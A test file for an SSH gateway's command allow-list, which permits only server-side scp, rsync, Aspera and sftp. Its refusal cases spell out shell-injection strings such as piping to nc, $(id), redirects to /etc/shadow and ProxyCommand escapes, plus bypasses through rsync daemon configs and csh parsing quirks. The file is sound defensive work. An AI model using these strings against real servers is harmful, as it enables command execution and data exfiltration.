import { assertEquals } from "../_assert.ts";
import { checkCommand } from "../../src/ssh/policy.ts";
import { splitShellWords } from "../../src/ssh/shell_words.ts";
import type { CommandPattern } from "../../src/config/mod.ts";

const DEFAULTS: CommandPattern[] = [
  { kind: "exec", argv: ["ascp"] },
  { kind: "exec", argv: ["ascp4"] },
  { kind: "exec", argv: ["async"] },
  { kind: "exec", argv: ["ascmd"] },
  { kind: "exec", argv: ["scp"] },
  { kind: "exec", argv: ["rsync", "--server"] },
  { kind: "subsystem", name: "sftp" },
];

Deno.test("splitShellWords() splits like sh does for plain commands", async (t) => {
  const cases: Array<[string, string[]]> = [
    ["scp -t /data", ["scp", "-t", "/data"]],
    ["scp  -f  '/data/my file.txt'", ["scp", "-f", "/data/my file.txt"]],
    [`scp -t "/data/a b"`, ["scp", "-t", "/data/a b"]],
    [`scp -t /data/a\\ b`, ["scp", "-t", "/data/a b"]],
    [`scp -t "/x/\\"q\\""`, ["scp", "-t", `/x/"q"`]],
    [`scp -f '/x/$(not run)'`, ["scp", "-f", "/x/$(not run)"]],
    [`scp -f /data/*.txt ~/in`, ["scp", "-f", "/data/*.txt", "~/in"]],
    [`rsync --server -vlogDtpre.iLsfxCIvu . /data/`, [
      "rsync",
      "--server",
      "-vlogDtpre.iLsfxCIvu",
      ".",
      "/data/",
    ]],
    [`a''b ""`, ["ab", ""]],
    [``, []],
  ];
  for (const [command, words] of cases) {
    await t.step(
      command || "(empty)",
      () => assertEquals(splitShellWords(command), { ok: true, words, mayBecomeOptions: [] }),
    );
  }
});

Deno.test("splitShellWords() marks words the shell could expand into an option", async (t) => {
  const cases: Array<[string, number[]]> = [
    ["scp -f *", [2]],
    ["scp -f ?x", [2]],
    ["scp -f [-]x", [2]],
    ["rsync --server . {--daemon,x}", [3]],
    ["rsync -{-daemon,v}", [1]],
    [`scp -f ''*`, [2]],
    [`scp -f "-"*`, [2]],
    ["scp -f ./* /data/*.txt a*b", []],
    ["scp -f '*' \\* \"{a,b}\"", []],
  ];
  for (const [command, risky] of cases) {
    await t.step(command, () => {
      const split = splitShellWords(command);
      assertEquals(split.ok && split.mayBecomeOptions, risky);
    });
  }
});

Deno.test("checkCommand() allows the default transfer commands", async (t) => {
  const allowed = [
    "scp -t /x",
    "scp -f /data/report.pdf",
    "ascp -S. -V1",
    "ascp --no-mgmt-port-files -M 34001 -S. -V1",
    "ascp4 -S.",
    "rsync --server -logDtpre.iLsfxC . /data",
    "rsync --server --sender -vlogDtpre.iLsfxCIvu --partial-dir .rsync-partial . /data/a /data/b",
    "scp -t '/dir with spaces'",
    "scp -r -p -d -t -- -dash",
    "scp -v -f /data/*.txt",
    "ascmd",
    "async -q -S -s-",
  ];
  for (const command of allowed) {
    await t.step(
      command,
      () => assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), { allowed: true }),
    );
  }
  await t.step(
    "subsystem sftp",
    () =>
      assertEquals(checkCommand(DEFAULTS, { kind: "subsystem", name: "sftp" }), { allowed: true }),
  );
});

Deno.test("checkCommand() refuses injection, other programs and shells", async (t) => {
  const refused: Array<[string, string]> = [
    ["scp -t /x; sh evil", `command refused: it contains shell syntax ";"`],
    ["scp -t /x && id", `command refused: it contains shell syntax "&"`],
    ["scp -t /x | nc h 1", `command refused: it contains shell syntax "|"`],
    ["scp -t $(id)", `command refused: it contains shell syntax "$"`],
    ["scp -t `id`", 'command refused: it contains shell syntax "`"'],
    [`scp -t "/x$(id)"`, `command refused: it contains shell syntax "$" inside double quotes`],
    ["scp -t /x\nid", `command refused: it contains shell syntax "\\n"`],
    ["scp -t /x > /etc/passwd", `command refused: it contains shell syntax ">"`],
    ["scp -t /x < /etc/shadow", `command refused: it contains shell syntax "<"`],
    ["scp -t (x)", `command refused: it contains shell syntax "("`],
    ["scp -t 'unterminated", "command refused: it has an unterminated ' quote"],
    ["scp -t /x \\", "command refused: it ends with a backslash"],
    ["scp -t /x #comment", `command refused: it contains a shell comment "#"`],
    ["sh -c 'scp -t /x'", `command "sh" is not allowed`],
    ["/usr/bin/scp -t /x", `command "/usr/bin/scp" is not allowed`],
    ["scpx -t /x", `command "scpx" is not allowed`],
    ["rsync -e sh x", `command "rsync" is not allowed`],
    [
      "scp -f *",
      `command refused: "*" could expand into an option upstream (quote it, or start it with ./)`,
    ],
    ["bash", `command "bash" is not allowed`],
    ["   ", "interactive shells are not allowed"],
  ];
  for (const [command, reason] of refused) {
    await t.step(
      JSON.stringify(command),
      () =>
        assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), { allowed: false, reason }),
    );
  }
  await t.step(
    "shell",
    () =>
      assertEquals(checkCommand(DEFAULTS, { kind: "shell" }), {
        allowed: false,
        reason: "interactive shells are not allowed",
      }),
  );
  await t.step(
    "other subsystem",
    () =>
      assertEquals(checkCommand(DEFAULTS, { kind: "subsystem", name: "netconf" }), {
        allowed: false,
        reason: `subsystem "netconf" is not allowed`,
      }),
  );
});

Deno.test("checkCommand() with * allows anything, shells included", () => {
  const any: CommandPattern[] = [{ kind: "any" }];
  assertEquals(checkCommand(any, { kind: "exec", command: "echo a; id" }), { allowed: true });
  assertEquals(checkCommand(any, { kind: "shell" }), { allowed: true });
  assertEquals(checkCommand(any, { kind: "subsystem", name: "x" }), { allowed: true });
});

const ASCP =
  " (only the server side of a transfer: ascp -S. -V1 or ascp --no-mgmt-port-files -M PORT -S. -V1)";
const ASYNC = " (only the server side of a transfer: async -q -S -s-)";

Deno.test("checkCommand() refuses the options that make an allowed program run anything", async (t) => {
  const refused: Array<[string, string]> = [
    [
      `scp -o 'ProxyCommand=sh -c "id>/tmp/p"' f x@host:/x`,
      `scp option "-o" is refused: it sets ssh options such as ProxyCommand (only -t or -f with -d -p -r -v)`,
    ],
    [
      "scp -S ./uploaded-script -t x:/y",
      `scp option "-S" is refused: it names a program to run (only -t or -f with -d -p -r -v)`,
    ],
    ["scp f x@host:/x", "scp must be run with exactly one of -t or -f (the server side of a copy)"],
    ["scp -t -f /x", "scp must be run with exactly one of -t or -f (the server side of a copy)"],
    ["scp -t", "scp needs a path"],
    ["scp -tP 2222 /x", `scp option "-P" is not allowed (only -t or -f with -d -p -r -v)`],
    [
      "scp -t /x -3",
      `scp option "-3" is refused: it makes scp copy between two other hosts (only -t or -f with -d -p -r -v)`,
    ],
    [
      "rsync --server --daemon --config=uploaded.conf .",
      `rsync option "--daemon" is refused: a daemon's config can run commands (pre-xfer exec)`,
    ],
    [
      "rsync --server -vlogDtpre.iLsfxC --log-file=/home/x/.bashrc . /data",
      `rsync option "--log-file" is refused: it writes a file anywhere the account can`,
    ],
    [
      "rsync --server -vlogDtprs . /data",
      `rsync option "-s" is refused: the arguments would arrive over the protocol, unchecked`,
    ],
    ["rsync --server -e 'sh -c id' . /data", `rsync option "-e" has a value not allowed here`],
    [
      "rsync --server --rsh=sh . /data",
      `rsync option "--rsh" is refused: it names a program to run`,
    ],
    [
      "rsync --server --rsync-path=x . /data",
      `rsync option "--rsync-path" is refused: it names a program to run`,
    ],
    ["rsync --server --daem . /data", `rsync option "--daem" is not allowed`],
    ["rsync --server --partial=x . /data", `rsync option "--partial" is not allowed`],
    ["rsync --server . /data --daemon", `rsync path "--daemon" starts with "-"`],
    ["rsync --server -v /data", `rsync --server needs its "." argument`],
    ["rsync --server -v x . /data", `rsync argument "x" comes before "."`],
    [
      "rsync --server . {--daemon,x}",
      `command refused: "{--daemon,x}" could expand into an option upstream (quote it, or start it with ./)`,
    ],
    [
      "ascp -i /home/x/.ssh/id --host=evil --mode=send /etc",
      `ascp option "-i" is refused: it names a private key for an onward connection${ASCP}`,
    ],
    [
      "ascp --mode=recv -L /etc/cron.d /tmp",
      `ascp option "-L" is refused: it writes logs to a directory of the client's choice${ASCP}`,
    ],
    [
      "ascp4 --keepalive --mode=send",
      `ascp4 option "--keepalive" is refused: it opens a persistent session that reads commands (only the server side of a transfer: ascp4 -S.)`,
    ],
    ["ascp --unknown /x", `ascp option "--unknown" is not allowed${ASCP}`],
    [
      "ascp -P x /x",
      `ascp option "-P" is refused: it is a client's option: the SSH port of an onward connection${ASCP}`,
    ],
    [
      "async -i key -N job",
      `async option "-i" is refused: it names a private key for an onward connection${ASYNC}`,
    ],
    ["ascmd -x", `ascmd takes no arguments, got "-x"`],
  ];
  for (const [command, reason] of refused) {
    await t.step(command, () =>
      assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
        allowed: false,
        reason: reason.startsWith("command refused: ") ? reason : `command refused: ${reason}`,
      }));
  }
});

Deno.test("checkCommand() checks a known program by its base name, others by their words only", () => {
  const patterns: CommandPattern[] = [
    { kind: "exec", argv: ["/usr/bin/scp"] },
    { kind: "exec", argv: ["cat"] },
  ];
  assertEquals(checkCommand(patterns, { kind: "exec", command: "/usr/bin/scp -o X=y -t /x" }), {
    allowed: false,
    reason:
      `command refused: scp option "-o" is refused: it sets ssh options such as ProxyCommand (only -t or -f with -d -p -r -v)`,
  });
  assertEquals(checkCommand(patterns, { kind: "exec", command: "cat -A /x" }), { allowed: true });
});

Deno.test("checkCommand() refuses Aspera programs as clients, which would connect onward", async (t) => {
  // Each of these ran upstream before: the old allow-lists held the client options of IBM's
  // ascp/ascp4/async references, so the internal ascp could be made to log in elsewhere with
  // the internal account's keys (issue 19, item 8).
  const client = "it is a client's option: the program would connect onward";
  const refused: Array<[string, string]> = [
    [
      "ascp --mode=send --host=198.51.100.7 --user=x -l 100m /data/secret /in",
      `ascp option "--host" is refused: ${client}${ASCP}`,
    ],
    ["ascp --user=x /data/secret", `ascp option "--user" is refused: ${client}${ASCP}`],
    ["ascp --mode=recv /tmp", `ascp option "--mode" is refused: ${client}${ASCP}`],
    [
      "ascp -P 22 /data/secret x@198.51.100.7:/in",
      `ascp option "-P" is refused: it is a client's option: the SSH port of an onward connection${ASCP}`,
    ],
    [
      "ascp -l 100m /data/secret x@198.51.100.7:/in",
      `ascp argument "x@198.51.100.7:/in" is refused: it names a remote host, as a client does${ASCP}`,
    ],
    [
      "ascp4 -l 100m x@198.51.100.7:/data /in",
      `ascp4 argument "x@198.51.100.7:/data" is refused: it names a remote host, as a client does (only the server side of a transfer: ascp4 -S.)`,
    ],
    [
      "async -N job -d /data -r x@198.51.100.7:/in",
      `async argument "x@198.51.100.7:/in" is refused: it names a remote host, as a client does${ASYNC}`,
    ],
    [
      "async -N job -d /data -rx@198.51.100.7:/in",
      `async option "-N" is not allowed${ASYNC}`,
    ],
    [
      "ascp --no-mgmt-port-files -M 198.51.100.7:5000 -S. -V1",
      `ascp argument "198.51.100.7:5000" is refused: it names a remote host, as a client does${ASCP}`,
    ],
    ["ascp --no-mgmt-port-files -M 0 -S. -V1", `ascp argument "0" is not allowed${ASCP}`],
    ["ascp --no-mgmt-port-files -M 65536 -S. -V1", `ascp argument "65536" is not allowed${ASCP}`],
    ["ascp -S. -V1 --host=evil", `ascp option "--host" is refused: ${client}${ASCP}`],
    ["ascp -S. -V1 /etc", `ascp argument "/etc" is not allowed${ASCP}`],
    ["ascp -S. -V1 -S.", `ascp option "-S." is not allowed${ASCP}`],
    ["ascp -S.", `ascp arguments "-S." are incomplete${ASCP}`],
    ["ascp -S . -V1", `ascp option "-S" is not allowed${ASCP}`],
    ["ascp", `ascp needs its server-side arguments${ASCP}`],
    [
      "ascp4 -S. -V1",
      `ascp4 option "-V1" is not allowed (only the server side of a transfer: ascp4 -S.)`,
    ],
    ["async -q -S", `async arguments "-q -S" are incomplete${ASYNC}`],
  ];
  for (const [command, reason] of refused) {
    await t.step(command, () =>
      assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
        allowed: false,
        reason: `command refused: ${reason}`,
      }));
  }
});

Deno.test("checkCommand() refuses what csh, tcsh, zsh or bash would read as other words", async (t) => {
  // Each passed the checks before and ran upstream as other words than the ones checked when
  // the internal account's login shell is not sh (issue 19, item 7). The first is the attack:
  // tcsh reads an rsync daemon run with an uploaded config.
  const refused: Array<[string, string]> = [
    [
      `rsync --server . "\\" --daemon --config=/home/u/up.conf "\\"`,
      "it has a backslash inside double quotes, which csh and tcsh keep and sh removes (use single quotes)",
    ],
    [
      `scp -t "/in/a\\\\b"`,
      "it has a backslash inside double quotes, which csh and tcsh keep and sh removes (use single quotes)",
    ],
    [
      "scp -t /in/a!b",
      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
    ],
    [
      "scp -t '/in/a!b'",
      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
    ],
    [
      `scp -t "/in/!!"`,
      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
    ],
    ["scp -t '/in/a\nb'", "it has a line break inside quotes, which csh and tcsh refuse"],
    [`scp -t "/in/a\rb"`, "it has a line break inside quotes, which csh and tcsh refuse"],
    [
      "scp -t /in/a#b /in/c",
      `it contains "#", which starts a comment in csh and tcsh (quote it)`,
    ],
    [
      "scp -t /in/x{}",
      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
    ],
    [
      "scp -t /in/{a}",
      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
    ],
    [
      "scp -t /in/}",
      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
    ],
    [
      "scp -t ~+/in",
      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
    ],
    [
      "scp -t ~root/in",
      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
    ],
    [
      "scp -t ''~/in",
      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
    ],
    [
      "scp -t x=~",
      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
    ],
    [
      "scp -t PATH=/in:~/x",
      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
    ],
    ["scp -t =0", `it has a word starting with "=", which zsh and tcsh expand (quote it)`],
    ["scp -t ''=ls", `it has a word starting with "=", which zsh and tcsh expand (quote it)`],
    [
      "scp -f ^x",
      `"^x" could expand into an option upstream (quote it, or start it with ./)`,
    ],
  ];
  for (const [command, reason] of refused) {
    await t.step(
      JSON.stringify(command),
      () =>
        assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
          allowed: false,
          reason: `command refused: ${reason}`,
        }),
    );
  }
});

Deno.test("checkCommand() allows the spellings every login shell reads alike", async (t) => {
  const allowed = [
    "scp -t /in/a\\!b",
    "scp -t '/in/a\"b'",
    `scp -t "/in/it's"`,
    "scp -t /in/x\\{\\}",
    "scp -t '/in/{a,b}'",
    "scp -t ~",
    "scp -t ~/in",
    "scp -t /in/file~",
    "scp -t 'a#b' a\\#b",
    "scp -t '/in/a\\b'",
    "scp -t '/in/a=~' \\=0",
    "scp -t /in/a^b",
    "scp -f /data/*.txt",
    // rsync 3.2.4 and later escape a path's shell characters with backslashes.
    "rsync --server -logDtpre.iLsfxCIvu . dir\\ with\\ space/a\\!b\\{c\\}\\#d",
  ];
  for (const command of allowed) {
    await t.step(
      command,
      () => assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), { allowed: true }),
    );
  }
});
